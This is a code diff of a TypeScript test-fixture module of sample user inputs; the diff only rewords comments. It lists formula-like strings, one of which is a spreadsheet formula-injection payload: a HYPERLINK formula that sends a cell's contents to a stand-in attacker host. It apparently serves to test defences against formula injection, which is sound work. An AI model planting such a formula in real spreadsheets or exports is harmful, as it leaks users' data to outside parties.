@@ -1,6 +1,6 @@
-/** Texts that people really type, or type to break something; each is an answer somewhere in the world. */
+/** Texts that people type, also to break something; each is an answer somewhere in the world. */
 
-/** What a spreadsheet would take for a formula. */
+/** Texts that a spreadsheet would treat as formulas. */
 export const FORMULA_LIKE_TEXTS = [
 	'=HYPERLINK("https://attacker.example/?x="&A1,"Click me")',
 	'+1',
@@ -63,7 +63,7 @@ export const WILD_TEXTS = [
 	...SHAPE_TEXTS,
 ];
 
-/** As many characters as asked, of several scripts. */
+/** A text of this length in several scripts. */
 export function longText(length: number): string {
 	const sentence = 'A very long answer – очень длинный ответ – とても長い回答 – إجابة طويلة جدا. ';
 	return sentence.repeat(Math.ceil(length / sentence.length)).slice(0, length);
